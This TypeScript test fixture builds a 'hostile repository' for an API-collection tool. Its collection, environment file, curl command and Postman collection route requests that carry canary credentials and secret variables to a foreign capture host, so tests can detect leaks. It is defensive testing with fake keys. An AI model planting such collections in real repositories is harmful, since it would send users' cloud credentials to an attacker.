// Test material: a repository as an attacker would ship it. Its collection names a foreign endpoint
// directly and through an environment's {{Gateway}}, and it carries a curl command and a Postman
// collection aimed at the same host, imported the way the editor and the command line import them.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fromCurl, fromPostman, serializeCollection, type Collection } from '../../../src/core/collections';

// A recent hour: the rules refuse query windows further back than the data is kept.
const RECENT_START = Math.floor(Date.now() / 1000) - 7200;
const RECENT_END = RECENT_START + 3600;

/** Canary credentials and secret variable values: any of them outside their place is a leak. */
export const CANARY = {
  secretId: 'AKIDEXAMPLEcanary000000000000000000',
  secretKey: 'canarySecretKey-Zq7Xw9Pv3Lm5Nb1Tr8',
  token: 'canarySessionToken-Hk4Jd6Fs2Ga9Qw0Ez',
  userSig: 'canaryUserSig-eJwtjM0OgjAQhF9l2yuX7Y',
  cosAccessKey: 'canaryCosAccessKey-AKIDcos111111',
  cosSecretKey: 'canaryCosSecretKey-Sx5Cv7Bn9Mq2',
} as const;

/** The secret values that must never leave the process except towards a trusted API. */
export const CANARY_SECRETS = [CANARY.secretKey, CANARY.token, CANARY.userSig, CANARY.cosAccessKey, CANARY.cosSecretKey];

/** The process environment of a CI job that has real keys and the secret variables set. */
export function canaryEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  return {
    TENCENTCLOUD_SECRET_ID: CANARY.secretId,
    TENCENTCLOUD_SECRET_KEY: CANARY.secretKey,
    TENCENTCLOUD_SESSION_TOKEN: CANARY.token,
    TRTC_VAR_USERSIG: CANARY.userSig,
    TRTC_VAR_COSACCESSKEY: CANARY.cosAccessKey,
    TRTC_VAR_COSSECRETKEY: CANARY.cosSecretKey,
    ...extra,
  };
}

/** Where the hostile repository's files are. */
export interface HostileWorkspace {
  root: string;
  /** `.trtc/collections/hostile.json`: one request with a custom URL, one through `{{Gateway}}`. */
  collection: string;
  /** The requests of the collection, for counting what arrives. */
  collectionRequests: number;
  /** The curl command of the repository, imported into a collection file. */
  curlCollection: string;
  /** The Postman collection of the repository, imported into a collection file. */
  postmanCollection: string;
  remove(): void;
}

/** Writes the hostile repository for a capture server at `url` (such as `http://127.0.0.1:4567`). */
export function hostileWorkspace(url: string): HostileWorkspace {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-repo-'));
  const collections = path.join(root, '.trtc', 'collections');
  const environments = path.join(root, '.trtc', 'environments');
  fs.mkdirSync(collections, { recursive: true });
  fs.mkdirSync(environments, { recursive: true });
  const hostile: Collection = {
    version: 1,
    name: 'Hostile',
    items: [
      {
        type: 'request',
        id: 'r-direct',
        name: 'Direct',
        action: 'DescribeRoomInfo',
        region: 'ap-guangzhou',
        endpoint: { kind: 'custom', url },
        params: { SdkAppId: 1400000001, StartTime: RECENT_START, EndTime: RECENT_END },
      },
      {
        type: 'request',
        id: 'r-gateway',
        name: 'Via gateway',
        action: 'CreateCloudRecording',
        region: 'ap-guangzhou',
        endpoint: { kind: 'custom', url: '{{Gateway}}' },
        params: {
          SdkAppId: 1400000001,
          RoomId: '1001',
          UserId: 'recorder',
          UserSig: '{{UserSig}}',
          RecordParams: { RecordMode: 2 },
          StorageParams: { CloudStorage: { Vendor: 0, Region: 'ap-shanghai', Bucket: 'records', AccessKey: '{{CosAccessKey}}', SecretKey: '{{CosSecretKey}}' } },
        },
      },
    ],
  };
  const collection = path.join(collections, 'hostile.json');
  fs.writeFileSync(collection, serializeCollection(hostile));
  fs.writeFileSync(
    path.join(environments, 'staging.json'),
    JSON.stringify({
      version: 1,
      name: 'staging',
      variables: { Gateway: { value: url }, UserSig: { secret: true }, CosAccessKey: { secret: true }, CosSecretKey: { secret: true } },
    }),
  );

  const curl =
    `curl -X POST ${url}/ -H 'Content-Type: application/json' -H 'X-TC-Action: DescribeRoomInfo' -H 'X-TC-Version: 2019-07-22' ` +
    `-H 'X-TC-Region: ap-guangzhou' -d '{"SdkAppId":1400000001,"StartTime":${RECENT_START},"EndTime":${RECENT_END}}'`;
  fs.writeFileSync(path.join(root, 'request.sh'), curl);
  const imported = fromCurl(curl);
  const curlCollection = path.join(collections, 'from-curl.json');
  fs.writeFileSync(curlCollection, serializeCollection({ version: 1, name: 'From curl', items: imported.requests }));

  const postman = {
    info: { name: 'Hostile Postman', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [
      {
        name: 'Leak',
        request: {
          method: 'POST',
          header: [
            { key: 'X-TC-Action', value: 'DescribeRoomInfo' },
            { key: 'X-TC-Version', value: '2019-07-22' },
          ],
          url: { raw: `${url}/` },
          body: { mode: 'raw', raw: `{"SdkAppId":1400000001,"StartTime":${RECENT_START},"EndTime":${RECENT_END}}` },
        },
      },
    ],
  };
  fs.writeFileSync(path.join(root, 'hostile.postman_collection.json'), JSON.stringify(postman));
  const postmanCollection = path.join(collections, 'from-postman.json');
  fs.writeFileSync(postmanCollection, serializeCollection(fromPostman(JSON.stringify(postman)).collection));

  for (const file of [curlCollection, postmanCollection]) {
    const text = fs.readFileSync(file, 'utf8');
    if (!text.includes(url)) {
      throw new Error(`the import of ${path.basename(file)} did not keep the foreign host; the test would prove nothing`);
    }
  }
  return {
    root,
    collection,
    collectionRequests: hostile.items.length,
    curlCollection,
    postmanCollection,
    remove: () => fs.rmSync(root, { recursive: true, force: true }),
  };
}
